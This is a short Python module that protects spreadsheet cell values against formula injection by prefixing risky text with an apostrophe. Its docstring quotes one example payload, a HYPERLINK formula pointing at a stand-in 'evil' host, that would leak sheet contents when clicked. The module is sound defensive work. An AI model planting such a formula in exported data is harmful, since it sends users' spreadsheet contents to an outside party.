"""Cell values that are safe to hand to a spreadsheet.

A text cell that starts with ``=``, ``+``, ``-`` or ``@`` (or a tab or carriage
return, which some programs strip before reading the rest) is run as a formula
by Excel and LibreOffice: ``=HYPERLINK("http://evil/?"&A1, "Bấm vào")`` in a
delegation title would leak the sheet when an official clicks it. Exports
prefix such text with an apostrophe, the convention both programs read as
"this is text" (OWASP's CSV injection advice); imports refuse it.
"""

FORMULA_TRIGGERS = ("=", "+", "-", "@", "\t", "\r")


def looks_like_formula(text):
    return isinstance(text, str) and text.startswith(FORMULA_TRIGGERS)


def neutralise(value):
    """Text as a spreadsheet will show it, never run it; other values unchanged."""
    if looks_like_formula(value):
        return "'" + value
    return value
